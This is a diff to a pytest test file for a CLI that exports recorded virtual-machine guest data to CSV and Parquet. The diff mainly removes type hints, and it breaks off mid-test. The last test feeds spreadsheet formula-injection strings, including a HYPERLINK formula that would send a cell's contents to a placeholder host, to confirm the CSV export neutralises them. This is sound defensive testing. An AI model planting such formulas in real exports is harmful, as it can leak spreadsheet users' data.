@@ -1,7 +1,5 @@
 """A recording as tables, opened with the tools that people have."""
 
-from __future__ import annotations
-
 import csv
 import re
 import sys
@@ -39,9 +37,7 @@ def guest_rows(reports: list[Report], field: str) -> list[tuple[str, Any]]:
 
 
 @pytest.mark.parametrize("kind", ["parquet", "csv"])
-def test_duckdb_and_pandas_open_the_tables_and_find_what_was_recorded(
-    recording: Path, reports: list[Report], tmp_path: Path, kind: str
-) -> None:
+def test_duckdb_and_pandas_open_the_tables_and_find_what_was_recorded(recording, reports, tmp_path, kind):
     out = tmp_path / "out"
     done = export(recording, "--to", kind, "-o", out)
     assert done.exit_code == 0, done.exception
@@ -65,20 +61,18 @@ def test_duckdb_and_pandas_open_the_tables_and_find_what_was_recorded(
     assert begins == pytest.approx(reports[0].time, abs=1e-3)
 
 
-def test_the_question_in_the_documents_is_answered_by_the_tables(
-    recording: Path, reports: list[Report], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_the_question_in_the_documents_is_answered_by_the_tables(recording, reports, tmp_path, monkeypatch):
     export(recording, "--to", "parquet", "-o", tmp_path / "friday")
     (query,) = re.findall(r"```sql\n(.*?)```", (Path(__file__).parents[2] / "docs/recordings.md").read_text(), re.DOTALL)
     monkeypatch.chdir(tmp_path)
     answer = duckdb.connect().sql(query.rstrip().rstrip(";")).project("guest_name, mib, why").fetchall()  # times would take pytz
-    given = [o for r in reports for o in r.outcomes if o.decision.control == "balloon_target" and o.decision.value > o.before]  # type: ignore[operator]  # KiB
+    given = [o for r in reports for o in r.outcomes if o.decision.control == "balloon_target" and o.decision.value > o.before]
     assert given
-    assert [(name, mib) for name, mib, _ in answer] == [(o.decision.entity.name, (o.decision.value - o.before) / 1024) for o in given]  # type: ignore[operator]  # KiB
+    assert [(name, mib) for name, mib, _ in answer] == [(o.decision.entity.name, (o.decision.value - o.before) / 1024) for o in given]
     assert all(why for _, _, why in answer)
 
 
-def test_guests_and_times_are_chosen(recording: Path, reports: list[Report], tmp_path: Path) -> None:
+def test_guests_and_times_are_chosen(recording, reports, tmp_path):
     name = next(o.decision.entity.name for r in reports for o in r.outcomes if o.decision.entity.scope is Scope.GUEST)
     since, until = "2023-11-14T22:15:00", "2023-11-14T22:17:00+00:00"
     done = export(
@@ -96,7 +90,7 @@ def test_guests_and_times_are_chosen(recording: Path, reports: list[Report], tmp
     assert {one for (one,) in decided if one} <= {one for (one,) in guests}
 
 
-def test_nothing_is_left_behind_and_nothing_is_overwritten(recording: Path, tmp_path: Path) -> None:
+def test_nothing_is_left_behind_and_nothing_is_overwritten(recording, tmp_path):
     (tmp_path / "full").mkdir()
     (tmp_path / "full" / "mine").write_text("mine")
     for output, arguments, message in (
@@ -112,13 +106,13 @@ def test_nothing_is_left_behind_and_nothing_is_overwritten(recording: Path, tmp_
 
 
 @pytest.mark.parametrize("arguments", [("--to", "excel"), (), ("--to", "csv", "--to", "parquet"), ("--to", "csv", "--to", "soon")])
-def test_a_format_or_time_that_there_is_not_is_misuse(recording: Path, tmp_path: Path, arguments: tuple[str, ...]) -> None:
+def test_a_format_or_time_that_there_is_not_is_misuse(recording, tmp_path, arguments):
     done = export(recording, *arguments, "-o", tmp_path / "x")
     assert done.exit_code == 2
     assert "--to" in done.output
 
 
-def test_a_damaged_cycle_is_left_out_and_told(recording: Path, reports: list[Report], tmp_path: Path) -> None:
+def test_a_damaged_cycle_is_left_out_and_told(recording, reports, tmp_path):
     (file,) = files_of(recording)
     content = bytearray(file.read_bytes())
     content[-20] ^= 1
@@ -129,9 +123,7 @@ def test_a_damaged_cycle_is_left_out_and_told(recording: Path, reports: list[Rep
     assert list(pd.read_csv(tmp_path / "out" / "host.csv")["cycle"]) == [report.number for report in reports[:-1]]
 
 
-def test_csv_needs_no_pyarrow_and_parquet_says_how_it_is_installed(
-    recording: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_csv_needs_no_pyarrow_and_parquet_says_how_it_is_installed(recording, tmp_path, monkeypatch):
     monkeypatch.setitem(sys.modules, "pyarrow", None)
     assert export(recording, "--to", "csv", "-o", tmp_path / "text").exit_code == 0
     done = export(recording, "--to", "parquet", "-o", tmp_path / "out")
@@ -139,7 +131,7 @@ def test_csv_needs_no_pyarrow_and_parquet_says_how_it_is_installed(
     assert not (tmp_path / "out").exists()
 
 
-def test_whole_numbers_stay_whole_in_csv(recording: Path, reports: list[Report], tmp_path: Path) -> None:
+def test_whole_numbers_stay_whole_in_csv(recording, reports, tmp_path):
     export(recording, "--to", "csv", "-o", tmp_path / "out")
     with (tmp_path / "out" / "guests.csv").open(newline="") as file:
         row = next(csv.DictReader(file))
@@ -148,7 +140,7 @@ def test_whole_numbers_stay_whole_in_csv(recording: Path, reports: list[Report],
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1,"x")', "@SUM(1)", "+1", "-1+1", "\t=1"])
-def test_what_a_spreadsheet_would_compute_is_text_in_csv(tmp_path: Path, name: str) -> None:
+def test_what_a_spreadsheet_would_compute_is_text_in_csv(tmp_path, name):
     session = replace(SESSION, fields=tuple(FieldSpec(one, Unit.TEXT, Scope.GUEST, "") for one in (name, "time")))
     guest = Guest("id", name, {name: name, "time": "x"})
     one = Report(1, 5.0, "enforce", Snapshot(Host(name), {"id": guest}, 5.0, 5.0, 1),
